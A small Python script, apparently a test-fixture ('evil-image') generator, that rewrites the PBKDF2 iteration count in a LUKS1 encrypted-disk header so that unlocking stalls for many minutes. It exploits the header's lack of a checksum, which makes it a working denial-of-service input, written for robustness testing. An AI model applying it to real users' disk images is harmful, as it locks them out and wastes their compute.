#!/usr/bin/python3
"""Raise a PBKDF2 cost in a LUKS1 header in place (evil-image generator).

usage: patch-luks1-pbkdf.py IMAGE [--slot N | --digest] [--iterations N]

LUKS1 header (big-endian): keyslot i starts at 208 + 48*i with
u32 active (0x00AC71F3 enabled / 0x0000DEAD disabled), u32 iterations;
the master-key digest iteration count is the u32 at 164.
Default: keyslot 0 iterations := 2000000000 (byte 212). The slot must be
enabled. LUKS1 has no header checksum, so nothing else changes; an unlock
attempt on the result keeps PBKDF2 busy for many minutes.
"""
import struct
import sys

ACTIVE = 0x00AC71F3


def main(argv):
    args = argv[1:]
    slot, digest, iters = 0, False, 2000000000
    image = None
    while args:
        a = args.pop(0)
        if a == "--slot":
            slot = int(args.pop(0))
        elif a == "--digest":
            digest = True
        elif a == "--iterations":
            iters = int(args.pop(0))
        elif a.startswith("-") or image is not None:
            sys.stderr.write(__doc__)
            return 2
        else:
            image = a
    if image is None or not 0 <= slot < 8 or not 0 < iters < 1 << 32:
        sys.stderr.write(__doc__)
        return 2
    with open(image, "r+b") as f:
        hdr = bytearray(f.read(592))
        if len(hdr) != 592 or hdr[:6] != b"LUKS\xba\xbe" or hdr[6:8] != b"\0\1":
            sys.stderr.write("%s: not a LUKS1 image\n" % image)
            return 1
        if digest:
            pos = 164
        else:
            base = 208 + 48 * slot
            if struct.unpack(">I", hdr[base:base + 4])[0] != ACTIVE:
                sys.stderr.write("%s: keyslot %d is not enabled\n" % (image, slot))
                return 1
            pos = base + 4
        f.seek(pos)
        f.write(struct.pack(">I", iters))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
